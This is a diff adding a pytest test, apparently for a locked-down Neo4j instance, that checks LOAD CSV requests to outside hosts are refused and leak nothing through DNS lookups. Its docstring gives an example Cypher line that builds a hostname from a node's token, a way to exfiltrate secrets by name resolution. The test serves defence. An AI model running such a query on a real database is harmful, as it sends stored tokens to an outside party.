@@ -139,6 +139,30 @@ def test_the_listener_would_have_noticed(listener: Listener) -> None:
     assert listener.knocks == knocks + 2
 
 
+def test_no_name_is_looked_up(session: neo4j.Session, listener: Listener, copy: LocalServer) -> None:
+    """What is looked up is told to a name server: `LOAD CSV FROM 'http://' + n.token + '.example'` would say it."""
+
+    def refusal_of(name: str) -> str:
+        with pytest.raises(ClientError) as refused:
+            session.run(f"LOAD CSV FROM 'http://{name}:{listener.port}/x.csv' AS row RETURN row").consume()
+        return str(refused.value)
+
+    copy.home.names.write_text("127.0.0.1 put-there-by-the-test\n")
+    assert "is blocked via" in refusal_of("put-there-by-the-test"), "names come from this file; addresses are refused"
+    ours = socket.gethostname()
+    if ours != "localhost" and known(ours):  # by whatever way this machine knows itself: the copy does not go it
+        assert "Couldn't load the external resource" in refusal_of(ours)
+    assert listener.knocks == 0
+
+
+def known(name: str) -> bool:
+    try:
+        socket.gethostbyname(name)
+    except OSError:
+        return False
+    return True
+
+
 def test_every_procedure_of_graph_data_science_that_it_has_only_looks(session: neo4j.Session) -> None:
     rows = session.run("SHOW PROCEDURES YIELD name, mode WHERE name STARTS WITH 'gds.' RETURN name, mode")
     there = {row["name"]: row["mode"] for row in rows}
